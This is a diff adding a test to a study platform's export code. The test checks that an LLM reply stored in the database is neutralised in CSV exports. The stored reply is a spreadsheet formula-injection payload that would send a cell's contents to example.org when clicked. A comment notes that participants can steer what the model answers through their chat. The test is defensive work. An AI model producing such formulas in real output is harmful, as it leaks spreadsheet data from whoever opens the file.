@@ -218,3 +218,20 @@ def test_episodes_on_a_generated_instance_read_against_its_certified_optimum(cli
     plain = services.create_study(title="x", created_by=researcher)
     assert "optimum" not in [c.name for c in exports.TABLES["episodes"].columns(plain)]
     assert "optimum" in [c.name for c in exports.TABLES["episodes"].columns(study)]
+
+
+def test_a_model_reply_a_spreadsheet_would_run_is_exported_as_text(client, researcher, make_study):
+    from games.npc.models import LlmCall
+
+    study = make_study(pages=False)
+    participant = services.give_consent(services.join(study, external_id="NPCS"))
+    episode = services.start_episode(participant, participant.episodes.get(index=0))
+    # a participant's chat goes into the prompt, so they can steer what the model answers
+    payload = '=HYPERLINK("https://example.org/?leak="&A2, "click me")'
+    LlmCall.objects.create(game_id=episode.game_id, agent="dispatcher", model="m", reply=payload, parsed=[])
+    client.force_login(researcher)
+    text = body(client.get(reverse("studies:export", args=[study.pk, "npc_calls", "csv"])))
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["reply"] == "'" + payload  # a spreadsheet shows it as typed instead of running it
+    jsonl = body(client.get(reverse("studies:export", args=[study.pk, "npc_calls", "jsonl"])))
+    assert json.loads(jsonl.splitlines()[0])["reply"] == payload  # JSON is no spreadsheet: as it was
